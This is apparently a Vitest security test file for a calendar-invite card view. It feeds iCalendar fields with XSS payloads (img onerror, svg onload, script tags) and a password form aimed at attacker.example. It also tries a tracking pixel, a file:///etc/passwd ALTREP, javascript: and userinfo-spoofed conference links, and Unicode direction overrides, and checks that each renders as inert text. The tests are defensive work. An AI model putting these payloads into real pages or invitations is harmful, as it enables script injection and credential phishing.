// @vitest-environment happy-dom
import { beforeAll, describe, expect, it, vi } from "vitest";

import { cardView } from "../../src/ui/card/card-view.ts";
import { reader } from "../core/words/english.ts";
import { desk } from "../ui/desk.ts";
import { receive, Stage, type Attack, type Received } from "./stage.ts";

/** Elements that no card has of its own. */
const FOREIGN =
  "a, audio, base, embed, form, frame, iframe, img, link, math, meta, object, script, style, " +
  "svg:not(.icon), template, video";

function draw({ card }: Received): HTMLElement {
  return cardView({ card, reader: reader(), desk: desk() });
}

function attributesOf(root: HTMLElement): readonly string[] {
  return [...root.querySelectorAll("*")].flatMap(({ attributes }) =>
    [...attributes].map(({ name }) => name),
  );
}

beforeAll(() => {
  // Whatever would be fetched is a fault.
  vi.stubGlobal("fetch", () => Promise.reject(new Error("something was fetched")));
});

const MARKUP: readonly [string, string][] = [
  ["a toggling element (CVE-2025-27915)", "<details open ontoggle=alert(1)>x</details>"],
  ["an animated drawing (CVE-2026-8496)", "<svg><animate onrepeat=alert(1) /></svg>"],
  ["a picture", "<img src=x onerror=alert(1)>"],
  ["a script", "<script>alert(1)</script>"],
  ["a form", "<form action=https://attacker.example><input name=password></form>"],
  ["a template", "<template><style>*{display:none}</style></template>"],
];

describe("markup in a text", () => {
  it.each(MARKUP)("A23 %s makes no element", async (_, markup) => {
    const value = markup.replaceAll(";", "\\;");
    const root = draw(
      await receive({
        event: [
          `SUMMARY:${value}`,
          `DESCRIPTION:${value}`,
          `LOCATION:${value}`,
          `COMMENT:${value}`,
          `ORGANIZER;CN="${markup}":mailto:boss@example.com`,
        ],
      }),
    );

    expect(root.querySelectorAll(FOREIGN)).toHaveLength(0);
    expect(attributesOf(root).filter((name) => name.startsWith("on"))).toEqual([]);
    for (const place of [".title", ".location", ".description-text", ".facts + .facts"]) {
      expect(root.querySelector(place)?.textContent).toContain(markup);
    }
  });

  it("A23 of an update, old and new are text as well", async () => {
    const stage = new Stage();
    await stage.receive({ id: "1", event: ["LOCATION:<img src=x onerror=alert(1)>"] });
    const root = draw(
      await stage.receive({ id: "2", event: ["SEQUENCE:1", "LOCATION:<svg onload=alert(2)>"] }),
    );

    expect(root.querySelectorAll(FOREIGN)).toHaveLength(0);
    expect(root.querySelector(".before")?.textContent).toBe("<img src=x onerror=alert(1)>");
    expect(root.querySelector(".after")?.textContent).toBe("<svg onload=alert(2)>");
  });

  it("A24 X-ALT-DESC is not rendered, and its pictures are not fetched", async () => {
    const html = `<form><img src="https://attacker.example/pixel.gif">${"<b>x</b>".repeat(500)}`;
    const root = draw(
      await receive({ event: [`X-ALT-DESC;FMTTYPE=text/html:${html}`, "DESCRIPTION:Agenda"] }),
    );

    expect(root.querySelectorAll(FOREIGN)).toHaveLength(0);
    expect(root.textContent).not.toContain("pixel.gif");
    expect(root.querySelector(".description-text")?.textContent).toBe("Agenda");
  });

  it.each([
    ["http://attacker.example/text.html", []],
    ["CID:part3.msg@example.com", []],
    ["file:///etc/passwd", ["links-safe: error"]],
  ])("A25 ALTREP=%s is judged, and never fetched or shown as a link", async (altrep, broken) => {
    const received = await receive({ event: [`DESCRIPTION;ALTREP="${altrep}":Agenda`] });

    expect(received.broken).toEqual(broken);
    expect(draw(received).querySelectorAll(FOREIGN)).toHaveLength(0);
  });

  it("A37 a meeting workspace is never read, shown or contacted", async () => {
    const received = await receive({
      event: ["X-MS-OLK-MWSURL:https://workspace.attacker.example/?me"],
    });

    expect(received.card.joinLink).toBeNull();
    expect(draw(received).outerHTML).not.toContain("workspace.attacker.example");
  });
});

describe("characters that deceive", () => {
  it.each([
    ["an override of direction", "SUMMARY:Invoice \u202efdp.exe", "Invoice ‹U+202E›fdp.exe"],
    ["tags", "SUMMARY:Budget\u{e0049}", "Budget‹U+E0049›"],
  ])("A11 %s stand in the title by name", async (_, line, title) => {
    expect(draw(await receive({ event: [line] })).querySelector(".title")?.textContent).toBe(title);
  });
});

describe("what a card says of a link", () => {
  it("A33 names the real host at the moment of the click, and asks nobody before", async () => {
    const link = "https://teams.microsoft.com/l/meetup-join/1";
    const opened: string[] = [];
    const { card } = await receive({ event: [`LOCATION:Microsoft Teams Meeting ${link}`] });
    const root = cardView({
      card,
      reader: reader(),
      desk: desk({
        openLink(url) {
          opened.push(url);
          return Promise.resolve();
        },
      }),
    });
    const [button] = root.querySelectorAll<HTMLElement>("button.link");

    expect(button?.textContent).toBe("Join on teams.microsoft.com");
    expect(opened).toEqual([]);
    button?.click();
    expect(opened).toEqual([link]);
  });

  it.each<[string, Attack]>([
    ["a script", { event: ["CONFERENCE;VALUE=URI:javascript:alert(1)"] }],
    ["user information", { event: ["CONFERENCE;VALUE=URI:https://zoom.us@attacker.example/"] }],
    ["an application", { event: ["X-GOOGLE-CONFERENCE:msteams://join"] }],
  ])("A29 A32 makes no button of a link with %s", async (_, attack) => {
    const { card } = await receive(attack);

    expect(card.joinLink).toBeNull();
  });
});

describe("where a card leads the hand", () => {
  it("A15 does not put the focus on an answer", async () => {
    const root = draw(await receive({ from: "Spam <spam@attacker.example>" }));
    document.body.replaceChildren(root);

    expect(root.querySelectorAll("[autofocus]")).toHaveLength(0);
    expect(root.contains(document.activeElement)).toBe(false);
    expect(root.querySelector('button[data-action="ignore"]')).not.toBeNull();
  });
});
